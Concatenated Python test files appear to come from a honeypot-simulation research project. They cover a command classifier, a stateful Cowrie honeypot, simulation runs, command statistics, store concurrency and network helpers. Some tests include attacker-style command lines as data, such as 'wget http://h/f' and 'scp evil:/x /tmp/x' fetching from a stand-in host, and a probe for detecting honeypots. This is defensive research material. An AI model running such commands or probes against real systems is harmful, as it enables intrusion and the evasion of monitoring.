        end=1.0,
        logins=[LoginAttempt("root", "x", True)],
        commands=[CommandRecord(raw=text, known=True)],
        bot_label=bot_label,
    )


class TestValidateClassifier:
    def test_perfect_agreement(self):
        sessions = [
            session("echo_OK", r'echo -e "\x6F\x6B"'),
            session("uname_a", "uname -a"),
        ]
        report = validate_classifier(sessions)
        assert report.total == 2
        assert report.accuracy == 1.0
        assert report.misclassified() == []

    def test_disagreement_recorded(self):
        sessions = [session("echo_OK", "wget http://h/f")]
        report = validate_classifier(sessions)
        assert report.accuracy == 0.0
        assert report.misclassified() == [(("echo_ok", "gen_wget"), 1)]

    def test_unmapped_bots_skipped(self):
        sessions = [session("not-a-real-bot", "uname -a")]
        report = validate_classifier(sessions)
        assert report.total == 0
        assert report.accuracy == 0.0

    def test_per_category_breakdown(self):
        sessions = [
            session("uname_a", "uname -a"),
            session("uname_a", "uname -a"),
            session("uname_a", "something else"),
        ]
        report = validate_classifier(sessions)
        assert report.per_category["uname_a"] == (2, 3)


class TestLabelTable:
    def test_expected_categories_are_real(self):
        from repro.analysis.regexrules import CATEGORY_NAMES

        assert set(EXPECTED_CATEGORY.values()) <= set(CATEGORY_NAMES)

    def test_no_overlap_with_commandless(self):
        assert not set(EXPECTED_CATEGORY) & COMMANDLESS_BOTS


class TestDatasetValidation:
    def test_high_agreement_on_dataset(self, dataset):
        report = validate_classifier(dataset.database.command_sessions())
        assert report.total > 1000
        assert report.accuracy > 0.99

    def test_experiment_notes(self, results):
        text = " ".join(results["ext_validation"].notes)
        assert "overall agreement" in text
        accuracy = float(text.split("overall agreement: ")[1].split("%")[0])
        assert accuracy > 99.0
