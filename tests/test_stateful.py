"""The stateful-honeypot extension (section-10 proposal)."""

from __future__ import annotations


from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.session import ConnectionIntent
from repro.honeypot.stateful import (
    StatefulCowrieHoneypot,
    consistency_probe_pair,
    probe_detects_honeypot,
)


def intent(client_ip: str, *lines: str) -> ConnectionIntent:
    return ConnectionIntent(
        client_ip=client_ip,
        credentials=(("root", "admin"),),
        command_lines=tuple(lines),
    )


class TestPersistence:
    def test_state_survives_sessions(self):
        honeypot = StatefulCowrieHoneypot("hp", "192.0.2.1")
        honeypot.handle(intent("1.1.1.1", "echo keep > /tmp/m"), 0.0)
        record = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 100.0)
        assert "keep" in record.commands[0].output

    def test_stateless_baseline_forgets(self):
        honeypot = CowrieHoneypot("hp", "192.0.2.1")
        honeypot.handle(intent("1.1.1.1", "echo keep > /tmp/m"), 0.0)
        record = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 100.0)
        assert "No such file" in record.commands[0].output

    def test_shared_state_crosses_clients_by_default(self):
        honeypot = StatefulCowrieHoneypot("hp", "192.0.2.1")
        honeypot.handle(intent("1.1.1.1", "echo keep > /tmp/m"), 0.0)
        record = honeypot.handle(intent("2.2.2.2", "cat /tmp/m"), 100.0)
        assert "keep" in record.commands[0].output

    def test_per_client_isolation(self):
        honeypot = StatefulCowrieHoneypot("hp", "192.0.2.1", per_client=True)
        honeypot.handle(intent("1.1.1.1", "echo keep > /tmp/m"), 0.0)
        same = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 100.0)
        other = honeypot.handle(intent("2.2.2.2", "cat /tmp/m"), 100.0)
        assert "keep" in same.commands[0].output
        assert "No such file" in other.commands[0].output

    def test_rollback_resets_state(self):
        honeypot = StatefulCowrieHoneypot(
            "hp", "192.0.2.1", reset_after_s=60.0
        )
        honeypot.handle(intent("1.1.1.1", "echo keep > /tmp/m"), 0.0)
        before = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 30.0)
        after = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 120.0)
        assert "keep" in before.commands[0].output
        assert "No such file" in after.commands[0].output

    def test_deletion_persists_too(self):
        honeypot = StatefulCowrieHoneypot("hp", "192.0.2.1")
        honeypot.handle(intent("1.1.1.1", "echo x > /tmp/m"), 0.0)
        honeypot.handle(intent("1.1.1.1", "rm /tmp/m"), 50.0)
        record = honeypot.handle(intent("1.1.1.1", "cat /tmp/m"), 100.0)
        assert "No such file" in record.commands[0].output


class TestProbe:
    def test_probe_pair_shape(self):
        write, check = consistency_probe_pair("abcdef")
        assert "echo abcdef" in write.command_lines[0]
        assert "cat" in check.command_lines[0]
        assert write.client_ip == check.client_ip

    def test_probe_detects_stateless(self):
        honeypot = CowrieHoneypot("hp", "192.0.2.1")
        assert probe_detects_honeypot(honeypot, "qwerty12", 0.0)

    def test_probe_fooled_by_stateful(self):
        honeypot = StatefulCowrieHoneypot("hp", "192.0.2.1")
        assert not probe_detects_honeypot(honeypot, "qwerty12", 0.0)

    def test_probe_not_fooled_by_error_echoing_path(self):
        # the error message contains the marker in the path — that must
        # not count as the file surviving
        honeypot = CowrieHoneypot("hp", "192.0.2.1")
        assert probe_detects_honeypot(honeypot, "distinctmarker", 0.0)


class TestExtensionExperiments:
    def test_stateful_experiment_shape(self, results):
        rows = {row[0]: row[1] for row in results["ext_stateful"].rows}
        assert rows["stateless (stock Cowrie)"] == "100%"
        assert rows["stateful (persistent fs)"] == "0%"

    def test_tokenizer_ablation_improves_silhouette(self, results):
        rows = {row[0]: row for row in results["ext_ablation_tokenizer"].rows}
        normalized = float(rows["normalized (paper)"][3])
        raw = float(rows["raw tokens"][3])
        assert normalized >= raw
        assert rows["normalized (paper)"][1] <= rows["raw tokens"][1]

    def test_ruleorder_ablation_shows_absorption(self, results):
        text = " ".join(results["ext_ablation_ruleorder"].notes)
        changed = float(text.split("(")[1].split("%")[0])
        assert changed > 30.0
        assert "coverage is unchanged (True)" in text

    def test_detection_ablation_monotone_windows(self, results):
        rows = results["ext_ablation_detection"].rows
        windows = [row[1] for row in rows]
        assert windows == sorted(windows)
