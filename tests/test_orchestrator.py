"""End-to-end simulation properties."""

from __future__ import annotations

from datetime import date

import pytest

from repro.analysis.categories import SessionCategory, category_counts
from repro.attackers.orchestrator import run_simulation
from repro.config import OUTAGE_END, OUTAGE_START, SimulationConfig
from repro.honeypot.session import Protocol
from repro.util.timeutils import epoch_date


class TestDeterminism:
    def test_same_seed_same_dataset(self):
        config = SimulationConfig(
            seed=33, scale=1e-4, start=date(2022, 5, 1), end=date(2022, 5, 7)
        )
        a = run_simulation(config)
        b = run_simulation(config)
        ids_a = [s.session_id for s in a.database.sessions]
        ids_b = [s.session_id for s in b.database.sessions]
        assert ids_a == ids_b
        assert [s.command_text for s in a.database.sessions] == [
            s.command_text for s in b.database.sessions
        ]

    def test_different_seed_differs(self):
        base = dict(scale=1e-4, start=date(2022, 5, 1), end=date(2022, 5, 7))
        a = run_simulation(SimulationConfig(seed=1, **base))
        b = run_simulation(SimulationConfig(seed=2, **base))
        assert {s.session_id for s in a.database.sessions} != {
            s.session_id for s in b.database.sessions
        }


class TestStructure:
    def test_all_categories_present(self, tiny_result):
        counts = category_counts(tiny_result.database.ssh_sessions())
        assert set(counts) == set(SessionCategory)

    def test_scouting_dominates(self, tiny_result):
        counts = category_counts(tiny_result.database.ssh_sessions())
        assert counts[SessionCategory.SCOUTING] == max(counts.values())

    def test_telnet_present_by_default(self, tiny_result):
        protocols = {s.protocol for s in tiny_result.database.sessions}
        assert protocols == {Protocol.SSH, Protocol.TELNET}

    def test_telnet_can_be_disabled(self):
        config = SimulationConfig(
            seed=5, scale=1e-4, start=date(2022, 5, 1), end=date(2022, 5, 5),
            include_telnet=False,
        )
        result = run_simulation(config)
        assert all(
            s.protocol == Protocol.SSH for s in result.database.sessions
        )

    def test_sessions_within_window(self, tiny_result):
        config = tiny_result.config
        for record in tiny_result.database.sessions:
            day = epoch_date(record.start)
            assert config.start <= day <= config.end

    def test_honeypots_in_fleet(self, tiny_result):
        fleet_ids = {hp.honeypot_id for hp in tiny_result.honeynet.honeypots}
        assert {s.honeypot_id for s in tiny_result.database.sessions} <= fleet_ids

    def test_ground_truth_labels_set(self, tiny_result):
        assert all(s.bot_label for s in tiny_result.database.sessions)

    def test_session_ids_unique(self, tiny_result):
        ids = [s.session_id for s in tiny_result.database.sessions]
        assert len(ids) == len(set(ids))


class TestOutage:
    def test_outage_days_empty(self, dataset):
        by_day = dataset.database.by_day()
        assert OUTAGE_START not in by_day
        assert OUTAGE_END not in by_day
        assert dataset.simulation.collector.dropped > 0

    def test_surrounding_days_active(self, dataset):
        from datetime import timedelta

        by_day = dataset.database.by_day()
        assert (OUTAGE_START - timedelta(days=1)) in by_day
        assert (OUTAGE_END + timedelta(days=1)) in by_day


class TestExtraBots:
    def test_extra_bot_injected(self):
        from datetime import date as _date

        from repro.attackers.activity import Campaign
        from repro.attackers.base import Bot
        from repro.attackers.ippool import ClientIPPool
        from repro.attackers.orchestrator import run_simulation
        from repro.config import SimulationConfig

        class PingBot(Bot):
            def __init__(self, population, tree, config):
                pool = ClientIPPool("ping", population, tree, 100, 1.0)
                super().__init__(
                    "pingbot", Campaign(config.start, config.end, 30_000), pool
                )

            def build_intent(self, ctx, day, rng, index):
                return self.make_intent(
                    rng,
                    credentials=(("root", "x"),),
                    command_lines=("echo ping",),
                )

        config = SimulationConfig(
            seed=61, scale=1e-4, start=_date(2022, 7, 1), end=_date(2022, 7, 10)
        )
        result = run_simulation(
            config, extra_bots_factory=lambda p, t, c: [PingBot(p, t, c)]
        )
        labels = {s.bot_label for s in result.database.sessions}
        assert "pingbot" in labels

    def test_name_collision_rejected(self):
        from datetime import date as _date

        import pytest as _pytest

        from repro.attackers.activity import Campaign
        from repro.attackers.base import Bot
        from repro.attackers.ippool import ClientIPPool
        from repro.attackers.orchestrator import run_simulation
        from repro.config import SimulationConfig

        class Impostor(Bot):
            def __init__(self, population, tree, config):
                pool = ClientIPPool("imp", population, tree, 10, 1.0)
                super().__init__(
                    "mdrfckr", Campaign(config.start, config.end, 1), pool
                )

            def build_intent(self, ctx, day, rng, index):
                return self.make_intent(rng, credentials=())

        config = SimulationConfig(
            seed=62, scale=1e-4, start=_date(2022, 7, 1), end=_date(2022, 7, 2)
        )
        with _pytest.raises(ValueError, match=r"collide.*\bmdrfckr\b"):
            run_simulation(
                config, extra_bots_factory=lambda p, t, c: [Impostor(p, t, c)]
            )


class TestLogging:
    def test_simulation_logs_progress(self, caplog):
        import logging
        from datetime import date as _date

        from repro.attackers.orchestrator import run_simulation
        from repro.config import SimulationConfig

        config = SimulationConfig(
            seed=63, scale=1e-4, start=_date(2022, 7, 1), end=_date(2022, 7, 3)
        )
        with caplog.at_level(logging.INFO, logger="repro.simulation"):
            run_simulation(config)
        messages = " ".join(record.message for record in caplog.records)
        assert "simulating" in messages
        assert "simulation finished" in messages
