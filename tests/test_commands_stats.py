"""Known/unknown command statistics."""

from __future__ import annotations

from repro.analysis.commands_stats import (
    command_visibility,
    first_command_word,
    uncapturable_transfer_sessions,
)
from repro.honeypot.session import (
    CommandRecord,
    LoginAttempt,
    Protocol,
    SessionRecord,
)


def session(commands: list[tuple[str, bool]]) -> SessionRecord:
    return SessionRecord(
        session_id=f"s-{hash(tuple(commands)) & 0xFFFF}",
        honeypot_id="hp",
        honeypot_ip="192.0.2.1",
        honeypot_port=22,
        protocol=Protocol.SSH,
        client_ip="1.1.1.1",
        client_port=1,
        start=0.0,
        end=1.0,
        logins=[LoginAttempt("root", "x", True)],
        commands=[CommandRecord(raw=raw, known=known) for raw, known in commands],
    )


class TestFirstWord:
    def test_simple(self):
        assert first_command_word("scp a b") == "scp"

    def test_path(self):
        assert first_command_word("./payload -x") == "./payload"

    def test_leading_space(self):
        assert first_command_word("  rsync -a") == "rsync"

    def test_garbage(self):
        assert first_command_word("!!!") == ""


class TestVisibility:
    def test_counts(self):
        sessions = [
            session([("uname -a", True), ("scp a b", False)]),
            session([("rsync -a x y", False)]),
        ]
        visibility = command_visibility(sessions)
        assert visibility.known_lines == 1
        assert visibility.unknown_lines == 2
        assert visibility.unknown_fraction == 2 / 3
        top = dict(visibility.top_unknown_commands)
        assert top == {"scp": 1, "rsync": 1}

    def test_empty(self):
        visibility = command_visibility([])
        assert visibility.total_lines == 0
        assert visibility.unknown_fraction == 0.0

    def test_dataset_visibility(self, dataset):
        visibility = command_visibility(dataset.database.command_sessions())
        assert visibility.total_lines > 0
        # the emulation covers the overwhelming majority of attacker input
        assert visibility.unknown_fraction < 0.15
        unknown_names = {name for name, _ in visibility.top_unknown_commands}
        assert "lockr" in unknown_names or "dget" in unknown_names


class TestUncapturable:
    def test_detects_scp(self):
        sessions = [
            session([("scp evil:/x /tmp/x", False)]),
            session([("uname -a", True)]),
        ]
        assert uncapturable_transfer_sessions(sessions) == 1

    def test_word_boundary(self):
        sessions = [session([("description of scpwhatever", True)])]
        assert uncapturable_transfer_sessions(sessions) == 0
