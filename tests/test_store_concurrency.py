"""Concurrent read-only store opens across export and index rebuild.

The query service opens the index read-only while exports and rebuilds
publish new index files via temp+rename next to it.  These tests pin
the concurrency contract that makes that safe on the WAL/read-only
design: an open reader keeps answering from the inode it holds, a
fresh open sees the newly published index, and any number of readers
can open and query while a writer republishes — no torn reads, no
crashes, no writes through a read-only connection.
"""

from __future__ import annotations

import sqlite3
import threading

import pytest

from repro.store import (
    SqliteStore,
    export_indexed_tree,
    index_path_for,
    rebuild_index,
)

pytestmark = pytest.mark.service


@pytest.fixture(scope="module")
def sessions(serial_baselines):
    """The fault-free baseline's session records (shared, read-only)."""
    return list(serial_baselines["none"].database)


def test_open_reader_survives_index_republish(tmp_path, sessions):
    """temp+rename republish never disturbs a reader already open."""
    root = tmp_path / "tree"
    export_indexed_tree(sessions[:50], root)
    reader = SqliteStore.open(index_path_for(root), read_only=True)
    assert reader.count() == 50
    # Republish the full dataset over the same path while the reader
    # holds the old index open.
    export_indexed_tree(sessions, root)
    assert reader.count() == 50  # still the inode it opened
    assert reader.meta().record_count == 50
    fresh = SqliteStore.open(index_path_for(root), read_only=True)
    assert fresh.count() == len(sessions)
    reader.close()
    fresh.close()


def test_open_reader_survives_index_rebuild(tmp_path, sessions):
    """``rebuild_index`` atomically replaces the file under a reader."""
    root = tmp_path / "tree"
    export_indexed_tree(sessions, root)
    reader = SqliteStore.open(index_path_for(root), read_only=True)
    labels_before = reader.count_by("rule_label")
    path, count = rebuild_index(root)
    assert count == len(sessions)
    # The old reader still answers consistently from its held index...
    assert reader.count() == len(sessions)
    assert reader.count_by("rule_label") == labels_before
    # ...and a fresh open sees the rebuilt one, with equal content.
    rebuilt = SqliteStore.open(path, read_only=True)
    assert rebuilt.count() == len(sessions)
    assert rebuilt.count_by("rule_label") == labels_before
    reader.close()
    rebuilt.close()


def test_read_only_connection_refuses_writes(tmp_path, sessions):
    root = tmp_path / "tree"
    export_indexed_tree(sessions[:10], root)
    reader = SqliteStore.open(index_path_for(root), read_only=True)
    with pytest.raises(sqlite3.OperationalError):
        reader._connection.execute("DELETE FROM sessions")
    # The failed write changed nothing.
    assert reader.count() == 10
    reader.close()


def test_concurrent_readers_while_writer_republishes(tmp_path, sessions):
    """Readers opening/querying in parallel with republishes only ever
    see one of the two complete datasets — never an error, never a
    torn count."""
    root = tmp_path / "tree"
    export_indexed_tree(sessions[:40], root)
    valid_counts = {40, len(sessions)}
    errors: list[Exception] = []
    observed: set[int] = set()
    stop = threading.Event()

    def read_loop() -> None:
        try:
            while not stop.is_set():
                store = SqliteStore.open(
                    index_path_for(root), read_only=True
                )
                observed.add(store.count())
                store.close()
        except Exception as error:  # noqa: BLE001 - collected for assert
            errors.append(error)

    readers = [threading.Thread(target=read_loop) for _ in range(4)]
    for thread in readers:
        thread.start()
    try:
        for _ in range(3):
            export_indexed_tree(sessions, root)
            export_indexed_tree(sessions[:40], root)
    finally:
        stop.set()
        for thread in readers:
            thread.join()
    assert errors == []
    assert observed  # the readers actually ran
    assert observed <= valid_counts


def test_many_concurrent_readonly_opens_agree(tmp_path, sessions):
    """Several simultaneous read-only connections share the WAL file and
    agree on every answer."""
    root = tmp_path / "tree"
    export_indexed_tree(sessions, root)
    results: list[tuple] = []
    errors: list[Exception] = []
    lock = threading.Lock()

    def open_and_query() -> None:
        # SQLite connections are thread-affine, so each reader opens
        # its own — exactly how concurrent service workers would.
        try:
            store = SqliteStore.open(index_path_for(root), read_only=True)
            try:
                answer = (
                    store.count(),
                    tuple(sorted(store.count_by("day").items())),
                )
            finally:
                store.close()
            with lock:
                results.append(answer)
        except Exception as error:  # noqa: BLE001 - collected for assert
            errors.append(error)

    threads = [threading.Thread(target=open_and_query) for _ in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(results) == 5
    assert len(set(results)) == 1  # every reader saw the same dataset
