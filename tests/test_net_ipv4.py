"""IPv4 math."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.net.ipv4 import (
    MAX_IPV4,
    Prefix,
    int_to_ip,
    ip_to_int,
    is_reserved,
    parse_prefix,
    slash24_base,
)


class TestConversions:
    def test_roundtrip_known(self):
        assert ip_to_int("1.2.3.4") == 0x01020304
        assert int_to_ip(0x01020304) == "1.2.3.4"

    @given(st.integers(min_value=0, max_value=MAX_IPV4))
    @settings(max_examples=100)
    def test_roundtrip_property(self, value):
        assert ip_to_int(int_to_ip(value)) == value

    @pytest.mark.parametrize("bad", ["1.2.3", "1.2.3.4.5", "256.0.0.1", "a.b.c.d", ""])
    def test_invalid_addresses(self, bad):
        with pytest.raises(ValueError):
            ip_to_int(bad)

    def test_int_out_of_range(self):
        with pytest.raises(ValueError):
            int_to_ip(-1)
        with pytest.raises(ValueError):
            int_to_ip(MAX_IPV4 + 1)

    def test_slash24_base(self):
        assert slash24_base(ip_to_int("10.1.2.200")) == ip_to_int("10.1.2.0")


class TestPrefix:
    def test_contains(self):
        prefix = parse_prefix("192.0.2.0/24")
        assert prefix.contains(ip_to_int("192.0.2.55"))
        assert not prefix.contains(ip_to_int("192.0.3.1"))

    def test_num_slash24(self):
        assert parse_prefix("10.0.0.0/22").num_slash24 == 4
        assert parse_prefix("10.0.0.0/24").num_slash24 == 1

    def test_slash24_bases(self):
        bases = parse_prefix("10.0.0.0/23").slash24_bases()
        assert bases == [ip_to_int("10.0.0.0"), ip_to_int("10.0.1.0")]

    def test_invalid_network_bits(self):
        with pytest.raises(ValueError):
            Prefix(ip_to_int("10.0.0.1"), 24)

    def test_invalid_length(self):
        with pytest.raises(ValueError):
            Prefix(0, 40)

    def test_parse_requires_length(self):
        with pytest.raises(ValueError):
            parse_prefix("10.0.0.0")

    def test_random_ip_within(self):
        prefix = parse_prefix("198.51.100.0/24")
        rng = random.Random(1)
        for _ in range(50):
            address = prefix.random_ip(rng)
            assert prefix.contains(address)
            assert address & 0xFF not in (0, 255)

    def test_str(self):
        assert str(parse_prefix("10.0.0.0/8")) == "10.0.0.0/8"


class TestReserved:
    @pytest.mark.parametrize(
        "address",
        ["10.1.1.1", "127.0.0.1", "192.168.1.1", "172.16.0.1", "224.0.0.1", "0.1.2.3"],
    )
    def test_reserved(self, address):
        assert is_reserved(ip_to_int(address))

    @pytest.mark.parametrize("address", ["1.1.1.1", "8.8.8.8", "203.0.113.7"])
    def test_not_reserved(self, address):
        assert not is_reserved(ip_to_int(address))
