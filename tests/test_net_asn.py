"""AS registry, allocation and routing helpers."""

from __future__ import annotations

import random
from datetime import date

import pytest

from repro.net.asn import ASRegistry, ASType, PrefixAllocator
from repro.net.ipv4 import ip_to_int, is_reserved
from repro.net.routing import count_slash24, deaggregate, size_bucket
from repro.net.whois import HistoricalWhois


@pytest.fixture
def registry():
    return ASRegistry()


class TestPrefixAllocator:
    def test_allocation_counts(self):
        allocator = PrefixAllocator()
        prefixes = allocator.allocate(50)
        assert sum(p.num_slash24 for p in prefixes) == 50
        # 50 = 32 + 16 + 2 → three aggregates
        assert len(prefixes) == 3

    def test_allocations_disjoint(self):
        allocator = PrefixAllocator()
        first = allocator.allocate(8)
        second = allocator.allocate(8)
        bases_a = {b for p in first for b in p.slash24_bases()}
        bases_b = {b for p in second for b in p.slash24_bases()}
        assert not bases_a & bases_b

    def test_never_reserved(self):
        allocator = PrefixAllocator(start=ip_to_int("9.255.0.0"))
        prefixes = allocator.allocate(512)  # must skip over 10.0.0.0/8
        for prefix in prefixes:
            assert not is_reserved(prefix.network)
            assert not is_reserved(prefix.network + prefix.num_addresses - 1)

    def test_rejects_zero(self):
        with pytest.raises(ValueError):
            PrefixAllocator().allocate(0)


class TestRegistry:
    def test_create_and_lookup(self, registry):
        record = registry.create(ASType.HOSTING, date(2020, 1, 1), n_slash24=4)
        rng = random.Random(0)
        address = record.random_ip(rng)
        assert registry.lookup_asn(address) == record.asn
        assert registry.lookup(address) is record

    def test_lookup_unknown_space(self, registry):
        assert registry.lookup(ip_to_int("203.0.113.5")) is None

    def test_of_type(self, registry):
        registry.create(ASType.HOSTING, date(2020, 1, 1), 1)
        registry.create(ASType.ISP_NSP, date(2020, 1, 1), 1)
        assert len(registry.of_type(ASType.HOSTING)) == 1

    def test_registered_between(self, registry):
        registry.create(ASType.OTHER, date(2019, 6, 1), 1)
        registry.create(ASType.OTHER, date(2023, 6, 1), 1)
        hits = registry.registered_between(date(2023, 1, 1), date(2024, 1, 1))
        assert len(hits) == 1

    def test_unique_asns(self, registry):
        a = registry.create(ASType.CDN, date(2018, 1, 1), 1)
        b = registry.create(ASType.CDN, date(2018, 1, 1), 1)
        assert a.asn != b.asn

    def test_age_years(self, registry):
        record = registry.create(ASType.OTHER, date(2020, 1, 1), 1)
        assert record.age_years(date(2021, 1, 1)) == pytest.approx(1.0, abs=0.01)
        assert record.age_years(date(2019, 1, 1)) == 0.0

    def test_announcing_window(self, registry):
        record = registry.create(
            ASType.OTHER, date(2020, 1, 1), 1, withdrawn=date(2022, 1, 1)
        )
        assert record.is_announcing(date(2021, 6, 1))
        assert not record.is_announcing(date(2022, 6, 1))
        assert not record.is_announcing(date(2019, 6, 1))


class TestRouting:
    def test_deaggregate(self, registry):
        record = registry.create(ASType.OTHER, date(2020, 1, 1), 4)
        slash24s = deaggregate(record.prefixes)
        assert len(slash24s) == 4
        assert all(p.length == 24 for p in slash24s)

    def test_count_slash24(self, registry):
        record = registry.create(ASType.OTHER, date(2020, 1, 1), 13)
        assert count_slash24(record.prefixes) == 13

    def test_size_buckets(self, registry):
        one = registry.create(ASType.OTHER, date(2020, 1, 1), 1)
        small = registry.create(ASType.OTHER, date(2020, 1, 1), 49)
        big = registry.create(ASType.OTHER, date(2020, 1, 1), 50)
        assert size_bucket(one) == "one /24"
        assert size_bucket(small) == "less than 50 /24"
        assert size_bucket(big) == "more than 50 /24"


class TestHistoricalWhois:
    def test_before_registration_is_none(self, registry):
        record = registry.create(ASType.HOSTING, date(2022, 6, 1), 2)
        whois = HistoricalWhois(registry)
        rng = random.Random(0)
        address = record.random_ip(rng)
        assert whois.lookup(address, date(2022, 1, 1)) is None
        result = whois.lookup(address, date(2023, 1, 1))
        assert result is not None
        assert result.asn == record.asn

    def test_withdrawn_reported_not_announcing(self, registry):
        record = registry.create(
            ASType.HOSTING, date(2020, 1, 1), 2, withdrawn=date(2022, 1, 1)
        )
        whois = HistoricalWhois(registry)
        address = record.random_ip(random.Random(0))
        result = whois.lookup(address, date(2023, 1, 1))
        assert result is not None and not result.announcing

    def test_accepts_dotted_strings(self, registry):
        record = registry.create(ASType.HOSTING, date(2020, 1, 1), 1)
        whois = HistoricalWhois(registry)
        from repro.net.ipv4 import int_to_ip

        dotted = int_to_ip(record.random_ip(random.Random(0)))
        assert whois.lookup(dotted, date(2021, 1, 1)).asn == record.asn

    def test_unrouted_space(self, registry):
        whois = HistoricalWhois(registry)
        assert whois.lookup("203.0.113.9", date(2022, 1, 1)) is None
