"""Data-integrity layer: checksums, manifests, quarantine, verify, crashes.

The load-bearing guarantees:

* a dataset written with corruption faults enabled recovers to exactly
  the clean records minus quarantined losses, and the extended
  conservation law balances over the recovery boundary;
* a corrupted checkpoint generation is detected and resume falls back
  to the newest valid generation (or a fresh start) with an identical
  final digest;
* injected worker crashes — up to every attempt of every shard — never
  change the parallel engine's digest;
* ``repro verify`` passes on clean or fully-explained trees and fails
  on trees with unexplained damage.
"""

from __future__ import annotations

import dataclasses
import json
import random
from datetime import date

import pytest

from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig
from repro.faults.checkpoint import (
    checkpoint_generations,
    load_checkpoint,
    load_latest_checkpoint,
    save_checkpoint,
)
from repro.faults.corruption import (
    CheckpointCorruptor,
    LogCorruptor,
    build_checkpoint_corruptor,
    build_log_corruptor,
    corrupt_file,
    crash_point,
)
from repro.faults.coverage import integrity_note
from repro.faults.plan import FaultProfile, IntegrityFaults
from repro.honeynet.io import (
    collector_accounting_for_recovery,
    read_jsonl,
    recover_jsonl,
    session_to_dict,
    write_jsonl,
)
from repro.integrity.checksums import (
    payload_checksum,
    seal,
    section_checksum,
    verify_seal,
)
from repro.integrity.manifest import (
    ManifestError,
    build_manifest,
    file_manifest,
    manifest_path,
    read_manifest,
    write_manifest,
)
from repro.integrity.quarantine import QuarantineStore
from repro.integrity.verify import audit_tree
from repro.util.rng import RngTree
from tests.conftest import SHORT_WINDOW, make_record


def records(count: int) -> list:
    return [
        make_record(1_600_000_000.0 + 10 * i, session_id=f"s-{i:04d}")
        for i in range(count)
    ]


#: Aggressive-but-recoverable line corruption for the differential tests.
NASTY = IntegrityFaults(
    line_mangle_probability=0.15,
    line_duplicate_probability=0.15,
    line_reorder_probability=0.15,
)


class TestChecksums:
    def test_seal_round_trips(self):
        payload = seal({"a": 1, "b": [2, 3]})
        assert verify_seal(payload)

    def test_tamper_detected(self):
        payload = seal({"a": 1})
        payload["a"] = 2
        assert not verify_seal(payload)

    def test_seal_is_idempotent(self):
        once = seal({"x": "y"})
        digest = once["sha"]
        assert seal(dict(once))["sha"] == digest

    def test_checksum_covers_envelope_keys(self):
        # The seal covers *every* other key, "seq" included: a swapped
        # sequence number must fail verification.
        payload = seal({"a": 1, "seq": 4})
        payload["seq"] = 5
        assert not verify_seal(payload)

    def test_unsealed_payload_never_verifies(self):
        assert not verify_seal({"a": 1})

    def test_section_checksum_is_order_insensitive(self):
        assert section_checksum({"a": 1, "b": 2}) == section_checksum(
            {"b": 2, "a": 1}
        )
        assert section_checksum([1, 2]) != section_checksum([2, 1])

    def test_payload_checksum_excludes_sha(self):
        clean = {"k": "v"}
        assert payload_checksum(dict(clean)) == payload_checksum(seal(dict(clean)))


class TestManifest:
    def test_write_read_round_trip(self, tmp_path):
        data = tmp_path / "x.jsonl"
        lines = ['{"a":1}', '{"b":2}']
        data.write_text("".join(line + "\n" for line in lines))
        manifest = build_manifest(lines)
        write_manifest(data, manifest)
        assert read_manifest(data) == manifest
        assert file_manifest(data) == manifest

    def test_missing_manifest_reads_none(self, tmp_path):
        assert read_manifest(tmp_path / "x.jsonl") is None

    def test_unparseable_manifest_raises(self, tmp_path):
        data = tmp_path / "x.jsonl"
        data.write_text("{}\n")
        manifest_path(data).write_text("not json")
        with pytest.raises(ManifestError):
            read_manifest(data)

    def test_file_manifest_detects_appended_line(self, tmp_path):
        data = tmp_path / "x.jsonl"
        lines = ['{"a":1}']
        data.write_text('{"a":1}\n')
        manifest = build_manifest(lines)
        with open(data, "a") as handle:
            handle.write('{"b":2}\n')
        actual = file_manifest(data)
        assert (actual.lines, actual.sha256) != (manifest.lines, manifest.sha256)


class TestQuarantine:
    def test_add_and_reload(self, tmp_path):
        store = QuarantineStore(tmp_path / "quarantine")
        store.add(path="data.jsonl", line=3, reason="invalid-json", raw="{oops")
        store.add(
            path="data.jsonl", line=None, seq=7, reason="missing-line", raw=""
        )
        reloaded = QuarantineStore(tmp_path / "quarantine")
        assert len(reloaded) == 2
        assert reloaded.counts_by_reason() == {
            "invalid-json": 1,
            "missing-line": 1,
        }

    def test_covers_by_line_and_seq(self, tmp_path):
        store = QuarantineStore(tmp_path / "q")
        store.add(path="/tmp/data.jsonl", line=3, reason="invalid-json", raw="x")
        store.add(
            path="/tmp/data.jsonl", line=None, seq=7, reason="missing-line",
            raw="",
        )
        assert store.covers("data.jsonl", line=3)
        assert store.covers("data.jsonl", seq=7)
        assert not store.covers("data.jsonl", line=4)
        assert not store.covers("other.jsonl", line=3)

    def test_discover(self, tmp_path):
        assert QuarantineStore.discover(tmp_path) is None
        store = QuarantineStore(tmp_path / "quarantine")
        store.add(path="d.jsonl", line=1, reason="invalid-json", raw="x")
        assert QuarantineStore.discover(tmp_path) is not None

    def test_zero_entry_store_round_trips(self, tmp_path):
        store = QuarantineStore(tmp_path / "quarantine")
        assert len(store) == 0
        assert store.entries() == []
        assert store.counts_by_reason() == {}
        assert not store.covers("data.jsonl", line=1)
        # Reopening an untouched store is identical — no index file is
        # created until the first add, so discover() still finds nothing.
        reloaded = QuarantineStore(tmp_path / "quarantine")
        assert len(reloaded) == 0 and reloaded.entries() == []
        assert QuarantineStore.discover(tmp_path) is None

    def test_raw_is_truncated_but_checksummed(self, tmp_path):
        store = QuarantineStore(tmp_path / "q")
        long = "z" * 5000
        entry = store.add(path="d.jsonl", line=1, reason="invalid-json", raw=long)
        assert len(entry.raw) < len(long)
        from repro.util.hashing import sha256_hex

        assert entry.raw_sha256 == sha256_hex(long)


class TestCorruptors:
    def test_inert_faults_build_nothing(self):
        tree = RngTree(1)
        assert build_log_corruptor(IntegrityFaults(), tree) is None
        assert build_log_corruptor(None, tree) is None
        assert build_checkpoint_corruptor(IntegrityFaults(), tree) is None

    def test_log_corruptor_is_deterministic(self):
        lines = [json.dumps({"i": i}) for i in range(200)]
        first = LogCorruptor(NASTY, RngTree(5).child("log")).corrupt_lines(
            list(lines)
        )
